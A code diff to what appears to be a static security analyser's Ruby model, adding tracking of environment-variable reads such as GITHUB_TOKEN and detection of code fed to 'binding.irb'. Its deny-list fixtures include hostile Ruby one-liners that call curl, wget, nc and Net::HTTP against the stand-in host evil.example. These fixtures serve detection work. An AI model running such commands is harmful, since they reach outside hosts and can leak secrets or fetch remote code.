@@ -4,7 +4,7 @@ import type { WordRole } from '../types.js';
 import { type Call, type Spec, apply, isUrl, looksAtUrl, lookupApi, urlsHanded, urlsHandedTo } from './capabilities.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, alternative, any, argvs, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
-import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
+import { VariablesRead, argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string']);
 const BINDING_NODES = new Set(['assignment', 'operator_assignment', 'block', 'do_block', 'lambda']);
@@ -226,8 +226,10 @@ class RubyReader {
     });
   }
 
+  private readonly variables = new VariablesRead(this.out, 'ENV');
+
   private envValue(names: Vals): Vals {
-    return envValue(this.env, names);
+    return envValue(this.env, names, this.variables.read);
   }
 
   evalNode(n: Node): Vals {
@@ -248,6 +250,8 @@ class RubyReader {
         return [str(n.text)];
       case 'identifier': {
         const bound = this.b.lookup(n.text);
+        // Kernel#binding called bare: the Binding object (`binding.irb` starts a console that reads code from stdin).
+        if (bound === undefined && n.text === 'binding') return [ref('Binding')];
         return bound ?? any(`the result of ${n.text}`);
       }
       case 'constant':
@@ -640,9 +644,14 @@ class RubyReader {
           break;
         }
         // `ENV.slice(*ENV.keys)`, `ENV.fetch(k)` of a computed name: any variable, each in turn.
-        if (v.k === 'method' && v.on.some((x) => x.k === 'env') && /^(fetch|values_at|slice|dig|assoc|\[\])$/.test(v.name) && this.callOf(n, v.name).args.some((a) => strings(a.vals) === null)) {
-          this.out.push({ kind: 'environment', api: `ENV.${v.name}`, span: span(n) });
-          break;
+        if (v.k === 'method' && v.on.some((x) => x.k === 'env') && /^(fetch|values_at|slice|dig|assoc|\[\])$/.test(v.name)) {
+          const names = this.callOf(n, v.name).args.map((a) => strings(a.vals));
+          if (names.some((a) => a === null)) {
+            this.out.push({ kind: 'environment', api: `ENV.${v.name}`, span: span(n) });
+            break;
+          }
+          // `ENV.values_at("GITHUB_TOKEN")`, `ENV.slice(k)` of a known `k`: the variables named.
+          for (const a of names) this.envValue((a ?? []).map(str));
         }
       }
       if (this.b.value(n).some((v) => v.k === 'env') && this.dumps(n)) this.out.push({ kind: 'environment', api: 'ENV', span: span(n) });
@@ -699,6 +708,7 @@ export const RUBY: LanguageModel = {
     deny: [
       `ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.example"))'`,
       `ruby -e 'system("curl evil.example")'`,
+      `echo 'system("curl evil.example")' | ruby -e 'binding.irb'`,
       `ruby -e 'puts \`wget -qO- evil.example\`'`,
       `ruby -e 'puts %x(nc evil.example 9)'`,
       `ruby -e 'system("curl", "evil.example")'`,
